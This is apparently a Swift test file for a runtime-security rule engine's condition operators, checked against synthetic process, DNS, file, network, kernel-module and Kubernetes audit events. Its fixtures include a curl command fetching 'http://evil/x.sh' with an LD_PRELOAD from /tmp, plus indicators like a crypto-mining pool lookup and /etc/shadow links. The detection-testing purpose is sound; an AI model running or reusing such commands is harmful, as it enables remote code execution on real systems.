import EventModel
import RuleEngine
import Testing

@Suite struct OperatorTests {
    let curl = execEvent("/usr/bin/curl", argv: ["curl", "-sSL", "http://evil/x.sh"], env: ["LD_PRELOAD=/tmp/x.so", "HOME=/root"])

    @Test func equality() throws {
        #expect(try fires("proc.exe = /usr/bin/curl", curl))
        #expect(try !fires("proc.exe = /usr/bin/wget", curl))
        #expect(try fires("proc.exe != /usr/bin/wget", curl))
        #expect(try !fires("proc.exe != /usr/bin/curl", curl))
        #expect(try fires("proc.name = curl", curl))
        #expect(try fires("proc.pid = 100", curl))
        #expect(try !fires("proc.pid = 101", curl))
        #expect(try fires("proc.pid != 101", curl))
        #expect(try fires("proc.exe=\"/usr/bin/curl\"", curl))
    }

    /// `=`, `!=` and `in` (short or long list) compare UTF-8 bytes, as `startswith` and the rest do: a path or name
    /// spelled with a canonically equivalent but different byte sequence is another path or name.
    @Test func equalityIsByteWiseForEveryListLength() throws {
        let precomposed = execEvent("/tmp/caf\u{E9}")
        let decomposed = "/tmp/cafe\u{301}"
        for condition in [
            "evt.target = \"\(decomposed)\"", "evt.target in (\"\(decomposed)\")",
            "evt.target in (\"\(decomposed)\", /a)", "evt.target in (\"\(decomposed)\", /a, /b)",
            "evt.target startswith \"\(decomposed)\"",
        ] {
            #expect(try !fires(condition, precomposed), "\(condition)")
        }
        #expect(try fires("evt.target != \"\(decomposed)\"", precomposed))
        #expect(try fires("evt.target = \"/tmp/caf\u{E9}\"", precomposed))
        #expect(try fires("evt.target in (/a, \"/tmp/caf\u{E9}\")", precomposed))
        // A multi-valued field: one of the arguments.
        let kelvin = execEvent("/bin/echo", argv: ["echo", "\u{212A}"])
        #expect(try !fires("proc.args = K", kelvin))
        #expect(try fires("proc.args != K", kelvin))
        #expect(try fires("proc.args = \"\u{212A}\"", kelvin))
    }

    @Test func ordering() throws {
        #expect(try fires("proc.pid < 101", curl))
        #expect(try !fires("proc.pid < 100", curl))
        #expect(try fires("proc.pid <= 100", curl))
        #expect(try !fires("proc.pid <= 99", curl))
        #expect(try fires("proc.pid > 99", curl))
        #expect(try !fires("proc.pid > 100", curl))
        #expect(try fires("proc.pid >= 100", curl))
        #expect(try !fires("proc.pid >= 101", curl))
        #expect(try fires("proc.uid = 0x0", curl))
    }

    @Test func inOperator() throws {
        #expect(try fires("proc.name in (wget, curl)", curl))
        #expect(try !fires("proc.name in (wget, nc)", curl))
        #expect(try fires("proc.name not in (wget, nc)", curl))
        #expect(try fires("proc.pid in (1, 100)", curl))
        #expect(try !fires("proc.pid in (1, 2)", curl))
        // Large lists use a hash set.
        let many = (0..<30).map { "bin\($0)" }.joined(separator: ", ")
        #expect(try fires("proc.name in (\(many), curl)", curl))
        #expect(try !fires("proc.name in (\(many))", curl))
        #expect(try fires("proc.name in ()", curl) == false)
    }

    @Test func stringOperators() throws {
        #expect(try fires("proc.cmdline contains evil", curl))
        #expect(try !fires("proc.cmdline contains good", curl))
        #expect(try fires("proc.cmdline icontains EVIL", curl))
        #expect(try !fires("proc.cmdline icontains GOOD", curl))
        #expect(try fires("proc.exe startswith /usr/", curl))
        #expect(try !fires("proc.exe startswith /opt/", curl))
        #expect(try fires("proc.exe endswith /curl", curl))
        #expect(try !fires("proc.exe endswith /wget", curl))
        #expect(try fires("proc.exe startswith (/opt/, /usr/bin/)", curl))
        #expect(try fires("proc.exe glob /usr/*/curl", curl))
        #expect(try !fires("proc.exe glob /usr/*/wget", curl))
        #expect(try !fires("proc.exe glob /*/curl", curl))
        #expect(try fires("proc.exe glob /**/curl", curl))
        #expect(try fires("proc.cmdline regex 'https?://[a-z]+/'", curl))
        #expect(try !fires("proc.cmdline regex '^wget'", curl))
        #expect(try fires("proc.exe contains \"\"", curl))
    }

    @Test func existsAndBooleans() throws {
        #expect(try fires("container.id exists", curl))
        let host = execEvent("/bin/ls", container: nil)
        #expect(try !fires("container.id exists", host))
        #expect(try fires("not container.id exists", host))
        // A missing field makes every comparison false, != included.
        #expect(try !fires("container.id != abc", host))
        #expect(try fires("exec.upper_layer = false", curl))
        #expect(try !fires("exec.upper_layer = true", curl))
        #expect(try fires("exec.upper_layer != true", curl))
        #expect(try fires("proc.env exists", curl))
        #expect(try !fires("proc.env exists", execEvent("/bin/ls")))
    }

    @Test func logic() throws {
        #expect(try fires("proc.name = curl and proc.pid = 100", curl))
        #expect(try !fires("proc.name = curl and proc.pid = 1", curl))
        #expect(try fires("proc.name = wget or proc.pid = 100", curl))
        #expect(try !fires("proc.name = wget or proc.pid = 1", curl))
        #expect(try fires("not proc.name = wget", curl))
        #expect(try !fires("not (proc.name = curl)", curl))
        // and binds tighter than or.
        #expect(try fires("proc.name = wget and proc.pid = 1 or proc.name = curl", curl))
        #expect(try !fires("proc.name = wget and (proc.pid = 1 or proc.name = curl)", curl))
        #expect(try fires("not not proc.name = curl", curl))
    }

    @Test func multiValuedFields() throws {
        // proc.args excludes argv[0]; contains/=/in mean "some element".
        #expect(try fires("proc.args contains -sSL", curl))
        #expect(try !fires("proc.args contains curl", curl))
        #expect(try !fires("proc.args contains -s", curl))
        #expect(try fires("proc.args = -sSL", curl))
        #expect(try fires("proc.args in (-x, -sSL)", curl))
        #expect(try !fires("proc.args in (-x, -y)", curl))
        #expect(try fires("proc.args != -x", curl))
        #expect(try !fires("proc.args != -sSL", curl))
        #expect(try fires("proc.args startswith http", curl))
        #expect(try fires("proc.args regex '^http://'", curl))
        #expect(try fires("proc.args icontains -SSL", curl))
        #expect(try fires("proc.env contains \"LD_PRELOAD=/tmp/x.so\"", curl))
        #expect(try fires("proc.env startswith \"LD_PRELOAD=\"", curl))
        #expect(try fires("proc.env[LD_PRELOAD] startswith /tmp/", curl))
        #expect(try !fires("proc.env[PATH] exists", curl))
        let syscalls = Event(time: 1, node: "n", process: ProcessInfo(), payload: .syscalls(SyscallSet(syscalls: [0, 1, 59, 322])))
        #expect(try fires("syscall.ids contains 59", syscalls, events: "[syscalls]"))
        #expect(try !fires("syscall.ids contains 60", syscalls, events: "[syscalls]"))
        #expect(try fires("syscall.ids in (101, 322)", syscalls, events: "[syscalls]"))
        #expect(try fires("syscall.ids > 300", syscalls, events: "[syscalls]"))
        #expect(try !fires("syscall.ids != 59", syscalls, events: "[syscalls]"))
        let dns = dnsEvent("x.com.", answers: ["1.2.3.4", "5.6.7.8"])
        #expect(try fires("dns.answers contains 5.6.7.8", dns, events: "[dns]"))
        #expect(try fires("dns.answers glob '1.2.*'", dns, events: "[dns]"))
    }

    @Test func normalisedFields() throws {
        let dns = dnsEvent("Pool.SupportXMR.com.")
        #expect(try fires("dns.name = pool.supportxmr.com", dns, events: "[dns]"))
        #expect(try fires("dns.name endswith .supportxmr.com", dns, events: "[dns]"))
        let open = openEvent("/etc/ssh/sshd_config", flags: 0o1)
        #expect(try fires("fd.directory = /etc/ssh and fd.filename = sshd_config", open, events: "[open]"))
        #expect(try fires("fd.write = true and fd.flags = 1", open, events: "[open]"))
        #expect(try !fires("fd.write = true", openEvent("/etc/shadow"), events: "[open]"))
        let root = openEvent("/x")
        #expect(try fires("fd.directory = / and fd.filename = x", root, events: "[open]"))
    }

    @Test func networkFields() throws {
        let event = connectEvent("203.0.113.9", 3333)
        #expect(try fires("net.dport = 3333 and net.daddr = 203.0.113.9 and net.proto = tcp", event, events: "[connect]"))
        #expect(try fires("net.sport = 40000 and net.saddr = 10.0.0.5", event, events: "[connect]"))
        let accept = Event(
            time: 1, node: "n", process: ProcessInfo(), container: podContainer,
            payload: .accept(NetworkFlow(localAddress: "10.0.0.5", localPort: 22, remoteAddress: "1.1.1.1", remotePort: 5555)))
        #expect(try fires("net.dport = 22 and net.saddr = 1.1.1.1", accept, events: "[accept]"))
    }

    @Test func otherPayloadFields() throws {
        let module = Event(time: 1, node: "n", process: ProcessInfo(), payload: .moduleLoad(ModuleLoad(syscall: "finit_module", name: "rootkit")))
        #expect(try fires("module.syscall in (init_module, finit_module) and module.name = rootkit", module, events: "[module_load]"))
        let cap = Event(time: 1, node: "n", process: ProcessInfo(), payload: .capability(CapabilityUse(capability: 21, syscall: 165)))
        #expect(try fires("cap.name = CAP_SYS_ADMIN and cap.id = 21 and cap.syscall = 165", cap, events: "[capability]"))
        let link = Event(time: 1, node: "n", process: ProcessInfo(), payload: .link(FileLink(target: "/etc/shadow", linkPath: "/tmp/s", symbolic: true)))
        #expect(try fires("link.target = /etc/shadow and link.symbolic = true and link.path startswith /tmp", link, events: "[link]"))
        let mount = Event(
            time: 1, node: "n", process: ProcessInfo(), container: podContainer,
            payload: .namespaceChange(NamespaceChange(syscall: "mount", flags: 4096, source: "/dev/sda1", target: "/host")))
        #expect(try fires("ns.syscall = mount and mount.source = /dev/sda1 and mount.target = /host and ns.flags = 4096", mount, events: "[namespace_change]"))
        let memfd = Event(time: 1, node: "n", process: ProcessInfo(), payload: .memfd(MemfdCreate(name: "x")))
        #expect(try fires("memfd.name = x", memfd, events: "[memfd]"))
        let bpf = Event(time: 1, node: "n", process: ProcessInfo(), payload: .bpf(BPFCall(command: 5)))
        #expect(try fires("bpf.cmd = 5", bpf, events: "[bpf]"))
        let scan = Event(time: 1, node: "n", process: ProcessInfo(), payload: .scanResult(ScanResult(path: "/tmp/m", signature: "Eicar-Test")))
        #expect(try fires("scan.signature startswith Eicar and scan.path = /tmp/m", scan, events: "[scan_result]"))
        #expect(try fires("evt.kind = exec and evt.count = 1 and evt.node = node-a", curl))
        #expect(try fires("container.image = nginx:1.25 and k8s.ns.name = shop and k8s.pod.name = web-1 and container.name = nginx", curl))
    }

    @Test("k8s.pod.label[KEY], k8s.pod.labels and k8s.owner.* read the labels and owner from the API")
    func kubernetesLabelAndOwnerFields() throws {
        var container = podContainer
        container.labels = ["app": "web", "app.kubernetes.io/part-of": "shop", "tier": "frontend"]
        container.ownerKind = "Deployment"
        container.ownerName = "web"
        let event = execEvent("/usr/bin/curl", container: container)
        #expect(try fires("k8s.pod.label[app] = web and k8s.pod.label[app.kubernetes.io/part-of] = shop", event))
        #expect(try !fires("k8s.pod.label[app] = db", event))
        #expect(try !fires("k8s.pod.label[missing] exists", event))
        #expect(try fires("k8s.pod.labels contains \"tier=frontend\"", event))
        #expect(try fires("k8s.pod.labels in (\"tier=frontend\", \"app=db\")", event))
        #expect(try fires("k8s.pod.labels exists", event))
        #expect(try fires("k8s.owner.kind = Deployment and k8s.owner.name = web", event))
        // Without the API (annotations only) labels and owner are absent.
        #expect(try !fires("k8s.pod.label[app] exists", curl))
        #expect(try !fires("k8s.pod.labels exists", curl))
        #expect(try !fires("k8s.owner.kind exists", curl))
        #expect(try fires("not k8s.owner.name exists", curl))
        // The host has neither.
        let host = execEvent("/usr/bin/curl", container: nil)
        #expect(try !fires("k8s.pod.labels exists", host))
        #expect(try !fires("k8s.owner.kind exists", host))
    }

    @Test func auditFields() throws {
        let event = auditEvent([
            "auditID": "a-1", "verb": "create", "stage": "ResponseComplete",
            "requestURI": .string("/api/v1/namespaces/shop/pods/web-1/exec?command=sh&command=-c&container=nginx&stdin=true"),
            "user": .object(["username": "alice", "groups": .array(["dev", "system:authenticated"])]),
            "objectRef": .object(["resource": "pods", "namespace": "shop", "name": "web-1", "subresource": "exec"]),
            "responseStatus": .object(["code": .number(101)]),
            "annotations": .object(["authorization.k8s.io/decision": "allow"]),
            "requestObject": .object([
                "spec": .object([
                    "containers": .array([
                        .object(["image": "nginx", "securityContext": .object(["privileged": .bool(true)])]),
                        .object(["image": "busybox"]),
                    ])
                ])
            ]),
        ])
        let kinds = "[audit]"
        #expect(try fires("ka.verb = create and ka.target.subresource = exec and ka.target.resource = pods", event, events: kinds))
        #expect(try fires("ka.user.name = alice and ka.user.groups contains dev", event, events: kinds))
        #expect(try fires("ka.target.namespace = shop and ka.target.name = web-1", event, events: kinds))
        #expect(try fires("ka.response.code = 101 and ka.response.code >= 100", event, events: kinds))
        #expect(try fires("ka.uri.param[container] = nginx and ka.uri.param[command] = sh", event, events: kinds))
        #expect(try !fires("ka.uri.param[tty] exists", event, events: kinds))
        #expect(try fires("ka.auth.decision = allow", event, events: kinds))
        #expect(try fires("ka.annotation[authorization.k8s.io/decision] = allow", event, events: kinds))
        #expect(try fires("jevt.value[/objectRef/name] = web-1", event, events: kinds))
        #expect(try fires("jevt.int[/responseStatus/code] = 101", event, events: kinds))
        #expect(try fires("jevt.value[/requestObject/spec/containers/0/securityContext/privileged] = true", event, events: kinds))
        #expect(try fires("jevt.values[/requestObject/spec/containers/*/image] contains busybox", event, events: kinds))
        #expect(try !fires("jevt.values[/requestObject/spec/containers/*/image] contains alpine", event, events: kinds))
        #expect(try fires("jevt.values[/requestObject/spec/containers/*/securityContext/privileged] contains true", event, events: kinds))
        #expect(try fires("ka.uri startswith /api/v1/namespaces/", event, events: kinds))
        #expect(try !fires("ka.impuser.name exists", event, events: kinds))
    }
}
